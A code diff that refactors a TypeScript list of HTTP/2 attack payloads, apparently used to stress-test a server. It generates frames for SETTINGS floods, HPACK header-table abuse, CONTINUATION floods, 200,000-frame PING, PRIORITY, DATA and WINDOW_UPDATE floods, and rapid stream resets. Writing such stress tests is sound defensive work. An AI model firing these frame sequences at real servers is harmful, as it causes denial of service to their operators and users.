@@ -54,96 +54,58 @@ const SHORT_FIELD = Buffer.from([0x00, 0x81, 0x1f, 0x81, 0x1f]);
 /** A field that enters the dynamic table, so that an older field leaves the table. */
 const INSERTED_FIELD = Buffer.from([0x40, 0x81, 0x1f, 0x00]);
 const BLOCK_BYTES = 15_000;
-const blocksOf = (path: string, count: number, rest: Buffer) => {
-  const block = Buffer.concat([encodeFields(requestOf(path)), rest]);
-  return repeated(count, (at) => heading(idOf(at), block, true));
-};
 const filled = (unit: Buffer, bytes = BLOCK_BYTES) => repeated(Math.floor(bytes / unit.length), () => unit);
 
 /** Returns a full SETTINGS frame that sets INITIAL_WINDOW_SIZE to each of the values in turn. */
 const windowSettings = (...values: readonly number[]) =>
   settings(...Array.from({ length: 2730 }, (_, at) => [4, values[at % values.length]!] as const));
 
+/** An attack of many frames on open streams, in turn. */
+const onStreams = (name: string, count: number, make: (id: number, at: number) => Buffer): Http2Attack => ({
+  name,
+  streams: STREAMS,
+  frames: () => repeated(count, (at) => make(idOf(at % STREAMS), at)),
+});
+/** An attack that opens 64 streams with a large header block each. */
+const withBlocks = (name: string, rest: Buffer): Http2Attack => ({
+  name: `64 header blocks${name}`,
+  streams: 0,
+  frames: (path) => {
+    const block = Buffer.concat([encodeFields(requestOf(path)), rest]);
+    return repeated(64, (at) => heading(idOf(at), block, true));
+  },
+});
+/** Returns a request whose fields are in 64 CONTINUATION frames. */
+function continued(path: string, id: number): Buffer {
+  const first = frame(FrameType.Headers, FrameFlag.EndStream, id, encodeFields(requestOf(path)));
+  const part = (flags: number) => frame(FrameType.Continuation, flags, id, filled(SHORT_FIELD, 500));
+  return Buffer.concat([first, repeated(62, () => part(0)), part(FrameFlag.EndHeaders)]);
+}
+const reset = (id: number) => frame(FrameType.RstStream, 0, id, uint32(8));
+
 export const HTTP2_ATTACKS: readonly Http2Attack[] = [
-  {
-    name: "31 SETTINGS frames full of windows",
-    streams: STREAMS,
-    frames: () => repeated(31, () => windowSettings(65_535, 65_536)),
-  },
-  {
-    name: "40,000 SETTINGS frames of one window",
-    streams: STREAMS,
-    frames: () => repeated(40_000, (at) => settings([4, 65_535 + (at % 2)])),
-  },
-  {
-    name: "64 header blocks, each one long value",
-    streams: 0,
-    frames: (path) => blocksOf(path, 64, huffmanField(BLOCK_BYTES)),
-  },
-  { name: "64 header blocks of short fields", streams: 0, frames: (path) => blocksOf(path, 64, filled(SHORT_FIELD)) },
-  {
-    name: "64 header blocks of inserted fields",
-    streams: 0,
-    frames: (path) => blocksOf(path, 64, filled(INSERTED_FIELD)),
-  },
-  {
-    name: "64 header blocks that repeat an entry",
-    streams: 0,
-    frames: (path) =>
-      blocksOf(
-        path,
-        64,
-        repeated(5000, () => Buffer.of(0x80 | 19)),
-      ),
-  },
+  onStreams("31 SETTINGS frames full of windows", 31, () => windowSettings(65_535, 65_536)),
+  onStreams("40,000 SETTINGS frames of one window", 40_000, (_, at) => settings([4, 65_535 + (at % 2)])),
+  withBlocks(", each one long value", huffmanField(BLOCK_BYTES)),
+  withBlocks(" of short fields", filled(SHORT_FIELD)),
+  withBlocks(" of inserted fields", filled(INSERTED_FIELD)),
+  withBlocks(" that repeat an entry", Buffer.alloc(5000, 0x80 | 19)),
   {
     name: "128 header blocks in 64 CONTINUATION frames each",
     streams: 0,
-    frames: (path) =>
-      repeated(128, (at) => {
-        const id = idOf(at);
-        const first = frame(FrameType.Headers, FrameFlag.EndStream, id, encodeFields(requestOf(path)));
-        const part = (last: boolean) =>
-          frame(FrameType.Continuation, last ? FrameFlag.EndHeaders : 0, id, filled(SHORT_FIELD, 500));
-        return Buffer.concat([first, ...Array.from({ length: 62 }, () => part(false)), part(true)]);
-      }),
+    frames: (path) => repeated(128, (at) => continued(path, idOf(at))),
   },
-  {
-    name: "200,000 WINDOW_UPDATE frames",
-    streams: STREAMS,
-    frames: () => repeated(200_000, (at) => windowUpdate(idOf(at % STREAMS), 1)),
-  },
-  {
-    name: "200,000 PRIORITY frames",
-    streams: STREAMS,
-    frames: () =>
-      repeated(200_000, (at) =>
-        frame(FrameType.Priority, 0, idOf(at % STREAMS), Buffer.concat([uint32(0), Buffer.of(1)])),
-      ),
-  },
-  {
-    name: "RST_STREAM of all streams",
-    streams: STREAMS,
-    frames: () => repeated(STREAMS, (at) => frame(FrameType.RstStream, 0, idOf(at), uint32(8))),
-  },
-  {
-    name: "200,000 empty DATA frames",
-    streams: STREAMS,
-    frames: () => repeated(200_000, (at) => frame(FrameType.Data, 0, idOf(at % STREAMS))),
-  },
-  {
-    name: "200,000 PING frames",
-    streams: STREAMS,
-    frames: () => repeated(200_000, () => frame(FrameType.Ping, 0, 0, Buffer.alloc(8))),
-  },
+  onStreams("200,000 WINDOW_UPDATE frames", 200_000, (id) => windowUpdate(id, 1)),
+  onStreams("200,000 PRIORITY frames", 200_000, (id) => frame(FrameType.Priority, 0, id, Buffer.of(0, 0, 0, 0, 1))),
+  onStreams("RST_STREAM of all streams", STREAMS, reset),
+  onStreams("200,000 empty DATA frames", 200_000, (id) => frame(FrameType.Data, 0, id)),
+  onStreams("200,000 PING frames", 200_000, () => frame(FrameType.Ping, 0, 0, Buffer.alloc(8))),
   {
     name: "20,000 requests that are reset at once",
     streams: 0,
     frames: (path) => {
       const block = encodeFields(requestOf(path));
-      return repeated(20_000, (at) =>
-        Buffer.concat([heading(idOf(at), block), frame(FrameType.RstStream, 0, idOf(at), uint32(8))]),
-      );
+      return repeated(20_000, (at) => Buffer.concat([heading(idOf(at), block), reset(idOf(at))]));
     },
   },
 ];
